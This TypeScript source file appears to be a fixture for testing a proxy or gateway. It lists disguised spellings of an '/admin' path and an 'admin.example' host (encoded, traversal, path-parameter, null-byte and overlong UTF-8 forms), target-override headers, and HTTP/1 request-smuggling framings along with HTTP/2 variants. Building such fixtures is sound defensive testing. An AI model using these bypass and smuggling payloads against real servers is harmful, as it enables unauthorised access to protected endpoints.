/**
 * Disguised spellings of `/admin` and of the host `admin.example`. Each is sent byte by byte, and its name is what is
 * sent, where that is printable.
 */

/**
 * Sent over HTTP/1 as these bytes (latin1); `headers` are lines that identify the request, each with its line end.
 */
export interface Http1Form {
  readonly what: string;
  readonly bytes: (headers: string) => string;
}

/** Sent over HTTP/2: fields over those of a usual request. */
export interface Http2Form {
  readonly what: string;
  readonly fields: Readonly<Record<string, string | undefined>>;
}

const TARGETS: readonly string[] = [
  '/admin',
  '/admin/',
  '/admin?x=/public',
  '/admin?',
  '//admin',
  '///admin',
  '/admin//',
  '//admin//secret',
  '/./admin',
  '/.//admin',
  '//./admin',
  '/x/../admin',
  '/x//../admin',
  '/x/y/../../admin/secret',
  '/../admin',
  '/../../../../admin',
  '/admin/.',
  '/admin/..',
  '/admin/../admin',
  '/admin/x/..',
  '/public/../admin',
  '/public/./../admin',
  '/public//../admin',
  '/public/x/../../admin',
  '/public/../admin?/../public',
  '/public/...//admin',
  '/%61dmin',
  '/%61%64%6d%69%6e',
  '/%61%64%6D%69%6E',
  '/adm%69n/secret',
  '/%2561dmin',
  '/%252561dmin',
  '/%25%36%31dmin',
  '/admin%2f',
  '/admin%2F',
  '/admin%2fsecret',
  '/%2fadmin',
  '/%2f%2fadmin',
  '/%2e/admin',
  '/%2e%2e/admin',
  '/%2E%2E/admin',
  '/x/%2e%2e/admin',
  '/x/.%2e/admin',
  '/x/%2e./admin',
  '/x%2f..%2fadmin',
  '/x%2f%2e%2e%2fadmin',
  '/public/%2e%2e/admin',
  '/public/..%2fadmin',
  '/public/%2e%2e%2fadmin',
  '/public%2f..%2fadmin',
  '/public%2f%2e%2e/admin',
  '/public/%252e%252e/admin',
  '/public/..%252fadmin',
  '/public/%2e%2e%2f%2e%2e%2fadmin',
  '/admin%5c',
  '/admin%5Csecret',
  '/%5cadmin',
  '/public/..%5cadmin',
  '/public%5c..%5cadmin',
  '\\admin',
  '/\\admin',
  '/admin\\',
  '/admin\\secret',
  '/public\\..\\admin',
  '/public/..\\admin',
  '/public\\../admin',
  '/admin;x=y',
  '/admin;/secret',
  '/;/admin',
  '/public/..;/admin',
  '/public/..;x=y/admin',
  '/public/;/../admin',
  '/public;/../admin',
  '/admin;x=/public/y',
  '/x;y/..;z/admin',
  '/;x=y/admin;z/secret',
  '/public/x;/../../admin',
  '/public/%2e%2e;/admin',
  '/public/..%3b/admin',
  '/public/..%3Bx/admin',
  '/admin%3bx',
  '/public/;/..;/;/admin',
  '/public;/..;/admin',
  '/admin#',
  '/admin#/../public',
  '/admin#?x',
  '/public#/../admin',
  '/public#/../../admin',
  '/admin%23/../public',
  '/public/%23/../../admin',
  '/admin%3f',
  '/admin%3f/../public',
  '/public%3f/../admin',
  '/public/%3f/../../admin',
  '/admin.',
  '/admin./',
  '/admin%20',
  '/admin%20/',
  '/%20/../admin',
  '/admin%00',
  '/admin%00/../public',
  '/public%00/../admin',
  '/admin%09',
  '/admin%0a',
  '/admin%0d%0aX:%20y',
  '/%c0%afadmin',
  '/x/%c0%ae%c0%ae/admin',
  '/public/%c0%ae%c0%ae%c0%afadmin',
  '/public/..%c0%afadmin',
  '/public/%e0%80%ae%e0%80%ae/admin',
  '/%u0061dmin',
  '/public/%u002e%u002e/admin',
  '/admin%',
  '/admin%2',
  '/public/%zz/../../admin',
  '/Admin',
  '/ADMIN',
  '/aDMIN/secret',
  '/admin~',
  '/admin/*',
  '/*',
  '*',
  'admin',
  './admin',
  '../admin',
  '?/admin',
  '/public/../admin/%2e%2e/admin',
  'http://public.example/admin',
  'HTTP://public.example/admin',
  'https://public.example/admin',
  'http://public.example//admin',
  'http://public.example/public/../admin',
  'http://public.example:80/%61dmin',
  'http://public.example\\admin',
  'http://public.example?/../admin',
  'http:///admin',
  'http:/admin',
  'http:admin',
  'ftp://public.example/admin',
  '//public.example/admin',
  '/http://public.example/admin',
];

/** Bytes that cannot be printed. */
const ODD_TARGETS: Readonly<Record<string, string>> = {
  'a null byte behind': '/admin\0',
  'a null byte and more': '/admin\0/../public',
  'a tab behind': '/admin\t',
  'a tab inside': '/ad\tmin',
  'a vertical tab': '/admin\x0b',
  'a carriage return': '/admin\r/x',
  'a delete': '/adm\x7fin',
  'overlong dots and slash as bytes': '/public/\xc0\xae\xc0\xae\xc0\xafadmin',
  'a full-width slash': '/public/..\xef\xbc\x8fadmin',
  'a byte order mark before': '\xef\xbb\xbf/admin',
  'two spaces before': ' /admin',
  'a no-break space behind': '/admin\xa0',
};

function request(target: string, headers: string, host = 'public.example'): string {
  return `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${headers}\r\n`;
}

/** Headers in which the request names another target. */
const OVERRIDES: readonly string[] = [
  'X-Original-URL: /admin',
  'X-Rewrite-URL: /admin',
  'X-Original-URI: /admin',
  'X-Forwarded-Path: /admin',
  'X-Forwarded-Uri: /admin',
  'X-Forwarded-Prefix: /admin',
  'X-Envoy-Original-Path: /admin',
  'X-Envoy-Original-Dst-Host: admin.example',
  'X_Original_URL: /admin',
  ':path: /admin',
  ':authority: admin.example',
  'X-HTTP-Method-Override: PUT',
];

const BODY_LENGTH = 4;

/** A second request hidden in, after or instead of the first one. `inner` is the hidden one. */
const FRAMINGS: Readonly<Record<string, (headers: string, inner: string) => string>> = {
  'pipelined behind a public one': (headers, inner) =>
    `GET /public HTTP/1.1\r\nHost: public.example\r\n${headers}\r\n${inner}`,
  'in a body that Content-Length covers': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: ${inner.length}\r\n${headers}\r\n${inner}`,
  'behind a body: Content-Length before Transfer-Encoding': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: ${BODY_LENGTH}\r\nTransfer-Encoding: chunked\r\n${headers}\r\n0\r\n\r\n${inner}`,
  'in a body: Content-Length of all, Transfer-Encoding that ends at once': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: ${inner.length + 5}\r\nTransfer-Encoding: chunked\r\n${headers}\r\n0\r\n\r\n${inner}`,
  'two Content-Lengths': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: 0\r\nContent-Length: ${inner.length}\r\n${headers}\r\n${inner}`,
  'a Content-Length of two numbers': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: 0, ${inner.length}\r\n${headers}\r\n${inner}`,
  'a Content-Length with a sign': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: +0\r\n${headers}\r\n${inner}`,
  'Transfer-Encoding: xchunked': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: ${inner.length + 5}\r\nTransfer-Encoding: xchunked\r\n${headers}\r\n0\r\n\r\n${inner}`,
  'Transfer-Encoding with a space before the colon': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: ${inner.length + 5}\r\nTransfer-Encoding : chunked\r\n${headers}\r\n0\r\n\r\n${inner}`,
  'Transfer-Encoding twice': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n${headers}\r\n0\r\n\r\n${inner}`,
  'Transfer-Encoding in a folded line': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nContent-Length: ${inner.length + 5}\r\nTransfer-Encoding:\r\n chunked\r\n${headers}\r\n0\r\n\r\n${inner}`,
  'a chunk that is longer than it says': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nTransfer-Encoding: chunked\r\n${headers}\r\n1\r\nab${inner}\r\n0\r\n\r\n`,
  'in a chunk extension': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nTransfer-Encoding: chunked\r\n${headers}\r\n0;x=\n${inner}\r\n\r\n`,
  'in trailers': (headers, inner) =>
    `POST /public HTTP/1.1\r\nHost: public.example\r\nTransfer-Encoding: chunked\r\n${headers}\r\n0\r\nX: y\r\n${inner}\r\n`,
  'lines that end with a line feed alone': (headers, inner) =>
    `GET /public HTTP/1.1\nHost: public.example\n${headers.replaceAll('\r', '')}\n${inner}`,
  'in a header value, behind a bare line feed': (headers, inner) =>
    `GET /public HTTP/1.1\r\nHost: public.example\r\nX: y\n\n${inner.trimEnd()}\r\n${headers}\r\n`,
  'in a header value, behind a bare carriage return': (headers, inner) =>
    `GET /public HTTP/1.1\r\nHost: public.example\r\nX: y\r\r${inner.trimEnd()}\r\n${headers}\r\n`,
  'HTTP/0.9': () => 'GET /admin\r\n\r\n',
  'HTTP/1.0': (headers) => `GET /admin HTTP/1.0\r\nHost: public.example\r\n${headers}\r\n`,
  'HTTP/2.0 in words': (headers) => `GET /admin HTTP/2.0\r\nHost: public.example\r\n${headers}\r\n`,
  'a method before the method': (headers) =>
    `GET GET /admin HTTP/1.1\r\nHost: public.example\r\nConnection: close\r\n${headers}\r\n`,
  'two targets': (headers) =>
    `GET /public /admin HTTP/1.1\r\nHost: public.example\r\nConnection: close\r\n${headers}\r\n`,
  CONNECT: (headers) => `CONNECT admin.example:80 HTTP/1.1\r\nHost: public.example\r\n${headers}\r\n`,
  'CONNECT with a path': (headers) => `CONNECT /admin HTTP/1.1\r\nHost: public.example\r\n${headers}\r\n`,
  'an upgrade to HTTP/2': (headers, inner) =>
    `GET /public HTTP/1.1\r\nHost: public.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n${headers}\r\n${inner}`,
  'an upgrade to WebSocket': (headers, inner) =>
    `GET /public HTTP/1.1\r\nHost: public.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n${headers}\r\n${inner}`,
};

export const PATH_FORMS: readonly Http1Form[] = [
  ...TARGETS.map((target) => ({ what: target, bytes: (headers: string) => request(target, headers) })),
  ...Object.entries(ODD_TARGETS).map(([what, target]) => ({
    what,
    bytes: (headers: string) => request(target, headers),
  })),
  ...OVERRIDES.map((line) => ({
    what: `/public with ${line}`,
    bytes: (headers: string) => request('/public', `${headers}${line}\r\n`),
  })),
  ...Object.entries(FRAMINGS).map(([what, frame]) => ({
    what,
    bytes: (headers: string) => frame(headers, request('/admin', headers)),
  })),
];

/** Host headers, one form each; several are lines of one request. */
const HOSTS: readonly (readonly string[])[] = [
  ['admin.example'],
  ['ADMIN.EXAMPLE'],
  ['aDmIn.eXample'],
  ['admin.example:80'],
  ['admin.example:8080'],
  ['Admin.Example:1'],
  ['admin.example:'],
  ['admin.example:00080'],
  ['admin.example:x'],
  ['admin.example:80:80'],
  ['admin.example:80@public.example'],
  ['admin.example.'],
  ['ADMIN.example.'],
  ['admin.example.:80'],
  ['admin.example..'],
  ['\tadmin.example'],
  ['admin.example \t'],
  ['user@admin.example'],
  ['user:password@admin.example'],
  ['public.example@admin.example'],
  ['public.example:80@admin.example'],
  ['public.example:@admin.example'],
  ['public.example:x@admin.example:80'],
  ['public.example\\@admin.example'],
  ['public.example#@admin.example'],
  ['admin.example#.public.example'],
  ['admin.example/.public.example'],
  ['admin.example/public'],
  ['admin.example?public.example'],
  ['admin.example\\public.example'],
  ['admin%2eexample'],
  ['%61dmin.example'],
  ['admin.example%00'],
  ['admin.example%20'],
  ['admin.example\0'],
  ['admin\xe3\x80\x82example'],
  ['\xef\xbd\x81dmin.example'],
  ['admin.example, public.example'],
  ['public.example, admin.example'],
  ['admin.example', 'public.example'],
  ['public.example', 'admin.example'],
  ['[admin.example]'],
  ['http://admin.example'],
  ['public.example', 'x\r\n host: admin.example'],
  [''],
];

export const HOST_FORMS: readonly Http1Form[] = [
  ...HOSTS.map((hosts) => ({
    what: `Host: ${hosts.map((host) => JSON.stringify(host)).join(' and ')}`,
    bytes: (headers: string) =>
      `GET /public HTTP/1.1\r\n${hosts.map((host) => `Host: ${host}\r\n`).join('')}Connection: close\r\n${headers}\r\n`,
  })),
  ...[
    'http://admin.example/public',
    'http://ADMIN.example:80/public',
    'http://public.example@admin.example/public',
  ].map((target) => ({ what: `${target} with another Host`, bytes: (headers: string) => request(target, headers) })),
  ...['X-Forwarded-Host: admin.example', 'Forwarded: host=admin.example', 'X-Host: admin.example'].map((line) => ({
    what: `public.example with ${line}`,
    bytes: (headers: string) => request('/public', `${headers}${line}\r\n`),
  })),
];

export const HTTP2_PATH_FORMS: readonly Http2Form[] = [
  ...[
    '/admin',
    '//admin',
    '/./admin',
    '/public/../admin',
    '/public\\..\\admin',
    '/public/%2e%2e/admin',
    '/public/..%2fadmin',
    '/%61dmin',
    '/admin#/../public',
    '/public#/../admin',
    '/admin%00',
    '/admin?',
    'admin',
    '*',
    '',
    'http://public.example/admin',
    '/admin\u00a0',
  ].map((path) => ({ what: `:path ${JSON.stringify(path)}`, fields: { ':path': path } })),
  { what: ':path and x-original-url', fields: { 'x-original-url': '/admin' } },
  { what: ':path with CONNECT', fields: { ':method': 'CONNECT', ':path': undefined, ':scheme': undefined } },
  { what: ':scheme https', fields: { ':scheme': 'https', ':path': '//admin' } },
];

export const HTTP2_HOST_FORMS: readonly Http2Form[] = [
  ...[
    'admin.example',
    'ADMIN.example',
    'admin.example:80',
    'admin.example.',
    'user@admin.example',
    'admin.example:',
  ].map((authority) => ({ what: `:authority ${authority}`, fields: { ':authority': authority } })),
  { what: 'host beside :authority', fields: { host: 'admin.example' } },
  { what: 'host instead of :authority', fields: { ':authority': undefined, host: 'admin.example' } },
  { what: ':authority beside host', fields: { ':authority': 'admin.example', host: 'public.example' } },
];
